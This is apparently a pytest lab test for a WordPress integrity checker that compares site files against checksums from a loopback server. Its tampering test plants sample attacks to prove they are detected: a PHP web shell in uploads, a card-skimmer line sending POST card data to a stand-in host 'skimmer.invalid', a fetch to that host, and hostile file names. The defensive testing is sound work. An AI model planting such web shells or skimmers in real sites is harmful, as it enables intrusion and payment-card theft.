"""integrity.check on a real WordPress site over SSH, against checksums the test computes.

The checksum server is a loopback HTTP server serving the WordPress.org core checksums API
and plugin checksum files, computed by the test from the pristine site tree (only for the
site's WordPress version and locale; everything else is a 404). ``acme-pay-pro`` is a premium
plugin no public API knows: it is covered by the tree hash of the version lock a real
``cms.update`` run validated.
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest

from maintkit.inventory import Inventory, load_inventory
from maintkit.results import RunResult, StepStatus
from maintkit.state.index import series
from tests import runs
from tests.cms_helpers import WpSite, WpTemplate, chown_tree
from tests.lab.sshd import LabHost

pytestmark = pytest.mark.lab

PAYMENT_PLUGIN = {
    "woo-pay.php": "<?php\n/**\n * Plugin Name: Woo Pay\n * Version: 2.3.1\n */\nrequire __DIR__ . '/includes/gateway.php';\n",
    "includes/gateway.php": "<?php\nfunction woo_pay_charge($amount) { return $amount; }\n",
    "readme.txt": "=== Woo Pay ===\nStable tag: 2.3.1\n",
}
PREMIUM_PLUGIN = {
    "acme-pay-pro.php": "<?php\n/**\n * Plugin Name: Acme Pay Pro\n * Version: 4.0.0\n */\n",
    "assets/checkout.js": "window.acmePay = {};\n",
}
PLAYBOOK = """\
name: watch-integrity
stages:
  - env: production
    steps:
      - {id: integrity, action: integrity.check}
"""
LOCK_PLAYBOOK = """\
name: lock
stages:
  - env: production
    steps:
      - {id: update, action: cms.update}
"""


def md5(path: Path) -> str:
    return hashlib.md5(path.read_bytes()).hexdigest()  # noqa: S324


@dataclass
class ChecksumServer:
    """What the loopback checksum server serves, and the requests it saw."""

    core: dict[tuple[str, str], dict[str, str]] = field(default_factory=dict)
    plugins: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)
    url: str = ""


def _handler(state: ChecksumServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            state.requests.append(self.path)
            url = urlparse(self.path)
            body: Any = None
            if url.path == "/core/checksums/1.0/":
                q = parse_qs(url.query)
                sums = state.core.get((q.get("version", [""])[0], q.get("locale", [""])[0]))
                body = {"checksums": sums if sums is not None else False}
            elif url.path.startswith("/plugin-checksums/"):
                slug, _, file = url.path[len("/plugin-checksums/") :].partition("/")
                body = state.plugins.get((slug, file.removesuffix(".json")))
            data = json.dumps(body).encode()
            self.send_response(404 if body is None else 200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture()
def checksum_server() -> Iterator[ChecksumServer]:
    state = ChecksumServer()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(state))
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def _write_plugin(site: WpSite, slug: str, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = site.path / "wp-content" / "plugins" / slug / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    chown_tree(site.path / "wp-content" / "plugins" / slug, "deploy")


def _core_version(site: WpSite) -> str:
    text = (site.path / "wp-includes" / "version.php").read_text()
    start = text.index("$wp_version = '") + len("$wp_version = '")
    return text[start : text.index("'", start)]


def publish_checksums(server: ChecksumServer, site: WpSite) -> None:
    """Core checksums (everything but wp-content/ and wp-config.php) and two plugins' files, from the pristine tree."""
    core = {
        p.relative_to(site.path).as_posix(): md5(p)
        for p in site.path.rglob("*")
        if p.is_file() and p.relative_to(site.path).parts[0] not in ("wp-content", "wp-config.php")
    }
    # the real API lists the bundled wp-content files too: they are left to the plugin and lock checks
    core["wp-content/plugins/hello.php"] = "0" * 32
    server.core[(_core_version(site), "en_US")] = core
    for slug in ("akismet", "woo-pay"):
        folder = site.path / "wp-content" / "plugins" / slug
        header = next(f for f in folder.glob("*.php") if "Version:" in f.read_text())
        version = header.read_text().split("Version:", 1)[1].split("\n", 1)[0].strip()
        files = {
            p.relative_to(folder).as_posix(): {"md5": md5(p), "sha256": hashlib.sha256(p.read_bytes()).hexdigest()}
            for p in folder.rglob("*")
            if p.is_file()
        }
        server.plugins[(slug, version)] = {"plugin": slug, "version": version, "files": files}


@dataclass
class World:
    site: WpSite
    host: LabHost
    server: ChecksumServer
    tmp: Path
    inventory: Inventory

    def run(self, playbook: str = PLAYBOOK) -> RunResult:
        return runs.run(playbook, self.inventory, self.tmp / "state")

    def findings(self) -> list[dict[str, Any]]:
        return series(self.tmp / "state", "shop", "production", "findings")


@pytest.fixture()
def world(
    wp_template: WpTemplate,  # noqa: F811
    ssh_hosts: list[tuple[LabHost, Path]],
    checksum_server: ChecksumServer,
    tmp_path: Path,
) -> World:
    site = wp_template.make_site(owner="deploy")
    _write_plugin(site, "woo-pay", PAYMENT_PLUGIN)
    _write_plugin(site, "acme-pay-pro", PREMIUM_PLUGIN)
    publish_checksums(checksum_server, site)
    host = ssh_hosts[0][0]
    (tmp_path / "zips").mkdir()
    site_vars = {
        "cms_update": {"repository": {"path": str(tmp_path / "zips")}, "api_url": None},
        "integrity": {
            "core_checksums_url": f"{checksum_server.url}/core/checksums/1.0/",
            "plugin_checksums_url": f"{checksum_server.url}/plugin-checksums",
        },
    }
    env = host.env(site.path, url=site.url)
    sites = {"shop": {"platform": "wordpress", "vars": site_vars, "environments": {"production": env}}}
    inventory = load_inventory(runs.write_inventory(tmp_path, sites))
    w = World(site, host, checksum_server, tmp_path, inventory)
    locked = w.run(LOCK_PLAYBOOK)  # a real cms.update: nothing to update, the lock records every tree hash
    assert locked.ok, json.dumps(locked.to_dict(), indent=1)[-2000:]
    return w


def _step(result: RunResult) -> Any:
    (step,) = [s for site in result.sites for s in site.steps if s.step == "integrity"]
    return step


def test_pristine_site_reports_nothing_twice(world: World) -> None:
    first = world.run()
    second = world.run()

    for result in (first, second):
        step = _step(result)
        assert step.status is StepStatus.UNCHANGED, step.error
        assert step.data["findings_count"] == 0
        assert step.data["integrity"]["unverified"] == []
    points = world.findings()
    assert [(p["check"], p["count"], p["items"], p["run_id"]) for p in points] == [
        ("integrity", 0, [], first.run_id),
        ("integrity", 0, [], second.run_id),
    ]
    reason = _step(first).reason
    version = _core_version(world.site)
    assert f"0 findings; core {version} (en_US): " in reason
    assert "2 plugin(s) against wordpress.org (akismet, woo-pay)" in reason
    # the installed version and locale were read on the host and asked for exactly
    assert f"/core/checksums/1.0/?version={version}&locale=en_US" in world.server.requests
    # shop-cart is not on wordpress.org: asked once (404), then covered by the lock
    assert "/plugin-checksums/shop-cart/1.0.0.json" in world.server.requests


def test_tampering_is_reported_with_severities_and_exact_paths(world: World) -> None:
    root = world.site.path
    with (root / "wp-includes" / "functions.php").open("a") as fh:
        fh.write("\n// injected\n")
    shell = root / "wp-content" / "uploads" / "2024" / "01" / "shell.php"
    shell.parent.mkdir(parents=True)
    shell.write_text("<?php system($_GET['c']);\n")
    with (root / "wp-content" / "plugins" / "woo-pay" / "includes" / "gateway.php").open("a") as fh:
        fh.write("file_get_contents('https://skimmer.invalid/?c=' . $_POST['card']);\n")
    with (root / "wp-content" / "plugins" / "acme-pay-pro" / "assets" / "checkout.js").open("a") as fh:
        fh.write("fetch('https://skimmer.invalid');\n")
    hostile = "evil name 'q\"\n.php"
    (root / "wp-includes" / hostile).write_text("<?php\n")
    (root / "wp-includes" / "notes with space.txt").write_text("hello\n")
    (root / "wp-content" / "uploads" / "2024" / "01" / "it's a\nshell.phtml").write_text("<?php\n")
    (root / "readme.html").unlink()
    chown_tree(root / "wp-content" / "uploads", "deploy")

    result = world.run()

    step = _step(result)
    assert step.status is StepStatus.FAILED
    (point,) = world.findings()
    got = sorted((i["severity"], i["title"], i["path"]) for i in point["items"])
    assert got == sorted(
        [
            ("critical", "PHP file in uploads", "wp-content/uploads/2024/01/shell.php"),
            ("critical", "PHP file in uploads", "wp-content/uploads/2024/01/it's a\nshell.phtml"),
            ("critical", "plugin file modified", "wp-content/plugins/woo-pay/includes/gateway.php"),
            (
                "critical",
                f"plugin files differ from the lock validated in run {_lock_run(world)}",
                "wp-content/plugins/acme-pay-pro",
            ),
            ("high", "core file modified", "wp-includes/functions.php"),
            ("high", "core file added", f"wp-includes/{hostile}"),
            ("medium", "core file missing", "readme.html"),
            ("low", "core file added", "wp-includes/notes with space.txt"),
        ]
    )
    assert point["count"] == 8
    assert [i["severity"] for i in point["items"]][:4] == ["critical"] * 4  # worst first
    assert (step.error or step.reason).startswith(
        "check: 8 integrity finding(s) (4 critical, 2 high, 1 medium, 1 low): critical: "
    )


def test_only_low_findings_warn_without_failing(world: World) -> None:
    (world.site.path / "wp-admin" / "notes.txt").write_text("a note\n")

    result = world.run()

    step = _step(result)
    assert step.status is StepStatus.UNCHANGED
    assert (step.error or step.reason).startswith(
        "warning: 1 finding(s) (1 low): low: core file added wp-admin/notes.txt; core "
    )
    (point,) = world.findings()
    assert point["count"] == 1 and point["items"][0]["path"] == "wp-admin/notes.txt"


def test_missing_core_checksums_fail_clearly(world: World) -> None:
    world.server.core.clear()

    result = world.run()

    step = _step(result)
    assert step.status is StepStatus.FAILED
    version = _core_version(world.site)
    assert (step.error or step.reason).startswith(
        f"check: no core checksums for WordPress {version} (en_US) at {world.server.url}/core/"
    )
    assert world.findings() == []  # nothing was judged, so no clean point is written


def _lock_run(world: World) -> str:
    (record,) = [
        r for r in runs_index(world) if r.get("status") == "validated" and "plugin:acme-pay-pro" in r["packages"]
    ]
    return str(record["run_id"])


def runs_index(world: World) -> list[dict[str, Any]]:
    from maintkit.state.index import version_locks

    return version_locks(world.tmp / "state", "shop", "production")
